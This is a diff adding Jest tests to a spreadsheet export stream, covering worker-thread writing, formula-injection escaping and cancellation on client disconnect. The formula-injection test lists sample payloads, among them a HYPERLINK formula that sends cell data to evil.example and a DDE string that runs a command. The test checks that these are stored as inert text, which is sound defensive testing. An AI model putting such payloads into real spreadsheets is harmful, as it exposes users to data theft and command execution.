@@ -65,5 +65,48 @@ describe('export streams', () => {
     expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
     expect(ws.getRow(2 + 4321).getCell(1).value).toBe(String(100000000000 + 4321));
     expect(ws.getRow(1 + PAGES * ROWS).getCell(1).value).toBe(String(100000000000 + PAGES * ROWS - 1));
-  }, 60_000);
+  }, 180_000);
+
+  it('xlsx: the workbook is written in a worker thread, never on the thread that serves requests (decision 0913)', async () => {
+    // Count the workbook writers made on this thread (a spy would break ExcelJS's constructor).
+    const streams = ExcelJS.stream.xlsx as unknown as { WorkbookWriter: new (...a: unknown[]) => object };
+    const Original = streams.WorkbookWriter;
+    let made = 0;
+    streams.WorkbookWriter = class extends Original {
+      constructor(...a: unknown[]) {
+        super(...a);
+        made++;
+      }
+    };
+    try {
+      const { iterable } = pages();
+      const file = await readAll(xlsxStream(iterable));
+      expect(file.subarray(0, 2).toString()).toBe('PK');
+      expect(made).toBe(0);
+    } finally {
+      streams.WorkbookWriter = Original;
+    }
+  }, 180_000);
+
+  it('xlsx: formula-like text is written as text, not as a formula', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(1,2)'];
+    async function* one(): AsyncGenerator<Cell[][]> {
+      yield names.map((n, i) => FILE_COLUMNS.map((_, j) => (j === 0 ? String(i) : j === 2 ? n : '')));
+    }
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load((await readAll(xlsxStream(one()))) as unknown as ExcelJS.Buffer);
+    const ws = wb.getWorksheet('零售户')!;
+    const cells = names.map((_, i) => ws.getRow(2 + i).getCell(3));
+    expect(cells.map((c) => c.value)).toEqual(names);
+    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
+  }, 180_000);
+
+  it('xlsx: a client that goes away stops the page reads', async () => {
+    const { counter, iterable } = pages();
+    const stream = xlsxStream(iterable);
+    await new Promise((r) => stream.once('data', r));
+    stream.destroy();
+    await sleep(500);
+    expect(counter.pulled).toBeLessThanOrEqual(3);
+  }, 180_000);
 });
